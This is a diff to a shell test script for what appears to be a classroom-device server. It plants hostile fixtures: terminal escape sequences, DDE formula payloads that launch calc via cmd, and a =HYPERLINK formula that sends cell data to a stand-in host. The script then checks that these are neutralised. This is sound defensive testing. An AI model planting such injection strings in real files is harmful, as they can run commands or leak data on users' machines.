@@ -84,11 +84,11 @@ n=$(bbtq "$DB" 'len([x for x in r if x["id"].endswith("0003")])' sessions)
 
 # --- a devices table never prints a control byte ---------------------------
 # A database written before this check may hold anything: put a hostile
-# hostname, room and input name there directly (a fixture only the SQLite
-# file can take: the product refuses such text at its door).
-sqlite3 "$DB" "UPDATE devices SET hostname = 'pc' || char(27) || ']0;owned' || char(7) ||
-	char(27) || '[2J' || char(155) || 'x', room = '三年级' || char(13) || '二班',
-	input_devices = '[{\"name\":\"IR' || char(27) || '[31mred\",\"touch\":true}]'"
+# hostname, room and input name there directly (a fixture only the database
+# can take: the product refuses such text at its door).
+esc=$(printf '\033'); bel=$(printf '\007'); csi=$(printf '\302\233'); cr=$(printf '\r')
+db_sql "$DB" "UPDATE devices SET hostname = 'pc$esc]0;owned$bel$esc[2J${csi}x',
+	room = '三年级${cr}二班', input_devices = '[{\"name\":\"IR$esc[31mred\",\"touch\":true}]'"
 srv devices > "$T/table"
 python3 - "$T/table" <<'PY' || { cat -v "$T/table"; fail "control bytes in the devices table"; }
 import sys
@@ -114,7 +114,7 @@ expect 200 "$(hb "{\"agent_time\":\"$behind\",\"version\":\"1.10\",\"buffer_dept
 	\"devices\":[{\"name\":\"-2+3+cmd|' /C calc'!A0\",\"touch\":true}]}")" "good heartbeat"
 settle
 
-sqlite3 "$DB" "UPDATE devices SET hostname = '=HYPERLINK(\"http://x/\"&A1)', room = '1-2',
+db_sql "$DB" "UPDATE devices SET hostname = '=HYPERLINK(\"http://x/\"&A1)', room = '1-2',
 	input_devices = '[{\"name\":\"-2+3+cmd|'' /C calc''!A0\",\"touch\":true}]'"
 printf 'school,room,weekday,start,end,teacher_id,teacher_name\n' > "$T/tt.csv"
 printf '0012,1-2,1,08:00,08:45,007,"@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0"\n' >> "$T/tt.csv"
